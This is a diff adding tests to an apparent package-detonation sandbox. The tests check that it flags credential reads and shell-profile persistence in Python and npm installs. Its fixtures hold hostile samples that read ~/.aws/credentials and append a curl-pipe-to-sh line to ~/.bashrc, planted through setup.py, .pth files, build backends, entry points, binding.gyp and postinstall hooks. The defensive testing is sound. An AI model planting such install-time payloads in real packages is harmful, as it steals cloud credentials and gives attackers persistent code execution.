@@ -259,3 +259,114 @@ def test_a_script_the_sandbox_cannot_run_is_named_not_skipped(detonate_tree: Det
     assert result.interference == (
         "1 script(s) in a language the sandbox cannot run, not run: sync.rb",
     )
+
+
+# --- install paths: the real installers ----------------------------------------------------
+
+PAYLOAD = (
+    "import os; h = os.path.expanduser('~'); open(h + '/.aws/credentials').read(); "
+    "open(h + '/.bashrc', 'a').write('curl -s http://203.0.113.7/i | sh\\n')"
+)
+INSTALLED = {"READ_CLOUD_CREDENTIALS", "WRITE_SHELL_PROFILE"}
+PLAIN_SETUP = f"""
+from setuptools import setup
+{PAYLOAD}
+setup(name="tzkit", version="1.0", packages=["tzkit"])
+"""
+PTH_SETUP = f"""
+import os
+from setuptools import setup
+from setuptools.command.install import install
+
+class Install(install):
+    def run(self):
+        super().run()
+        with open(os.path.join(self.install_lib, "tzkit-init.pth"), "w") as pth:
+            pth.write({PAYLOAD!r} + "\\n")
+
+setup(name="tzkit", version="1.0", packages=["tzkit"], cmdclass={{"install": Install}})
+"""
+IN_TREE_BACKEND = f"""
+{PAYLOAD}
+from setuptools.build_meta import *  # noqa: F403
+"""
+PYPROJECT_IN_TREE = """
+[build-system]
+requires = []
+build-backend = "backend"
+backend-path = ["."]
+
+[project]
+name = "tzkit"
+version = "1.0"
+
+[tool.setuptools]
+packages = ["tzkit"]
+"""
+PACKAGE = {"tzkit/__init__.py": "def main():\n    pass\n"}
+
+
+def test_a_pth_dropped_by_setup_py_runs_when_python_next_starts(detonate_tree: Detonate) -> None:
+    result = detonate_tree(PACKAGE | {"setup.py": PTH_SETUP}, Track.PACKAGES)
+    control = detonate_tree(PACKAGE | {"setup.py": PLAIN_SETUP}, Track.PACKAGES)
+    assert INSTALLED <= control.names <= result.names
+    assert result.complete and control.complete, (result.interference, control.interference)
+    pth = next(s for s in result.profiles[0].steps if s.name.startswith("start Python"))
+    assert pth.exit_code == 0
+
+
+def test_an_in_tree_build_backend_is_what_builds(detonate_tree: Detonate) -> None:
+    hostile = PACKAGE | {"pyproject.toml": PYPROJECT_IN_TREE, "backend.py": IN_TREE_BACKEND}
+    result = detonate_tree(hostile, Track.PACKAGES)
+    control = detonate_tree(PACKAGE | {"setup.py": PLAIN_SETUP}, Track.PACKAGES)
+    assert INSTALLED <= control.names <= result.names
+    assert result.complete, result.interference
+
+
+def test_entry_points_are_started_after_install(detonate_tree: Detonate) -> None:
+    setup = (
+        "from setuptools import setup\n"
+        "setup(name='tzkit', version='1.0', packages=['tzkit'],\n"
+        "      entry_points={'console_scripts': ['tzkit=tzkit:main']})\n"
+    )
+    main = f"def main():\n    {PAYLOAD}\n"
+    result = detonate_tree({"setup.py": setup, "tzkit/__init__.py": main}, Track.PACKAGES)
+    assert result.names >= INSTALLED
+
+
+ACTION = "cat ~/.aws/credentials > /dev/null; echo 'curl -s http://203.0.113.7/i | sh' >> ~/.bashrc"
+GYP_ACTION = json.dumps(
+    {
+        "targets": [
+            {
+                "target_name": "tz",
+                "type": "none",
+                "actions": [
+                    {
+                        "action_name": "zones",
+                        "inputs": [],
+                        "outputs": ["<(INTERMEDIATE_DIR)/zones"],
+                        "action": ["sh", "-c", ACTION + "; touch <(INTERMEDIATE_DIR)/zones"],
+                    }
+                ],
+            }
+        ]
+    }
+)
+HOOK_JS = """
+const fs = require("fs"), os = require("os");
+fs.readFileSync(os.homedir() + "/.aws/credentials");
+fs.appendFileSync(os.homedir() + "/.bashrc", "curl -s http://203.0.113.7/i | sh\\n");
+"""
+
+
+def test_a_binding_gyp_action_runs_as_npm_install_runs_it(detonate_tree: Detonate) -> None:
+    manifest = {"name": "tzkit", "version": "1.0.0", "main": "index.js"}
+    hostile = {"package.json": json.dumps(manifest), "index.js": "", "binding.gyp": GYP_ACTION}
+    scripted = manifest | {"scripts": {"postinstall": "node hook.js"}}
+    control = {"package.json": json.dumps(scripted), "index.js": "", "hook.js": HOOK_JS}
+    result = detonate_tree(hostile, Track.PACKAGES)
+    plain = detonate_tree(control, Track.PACKAGES)
+    assert INSTALLED <= plain.names <= result.names | {"CREATE_PROCESS"}
+    assert result.complete and plain.complete, (result.interference, plain.interference)
+    assert "CREATE_PROCESS" not in plain.names  # npm's own shell and node are npm's
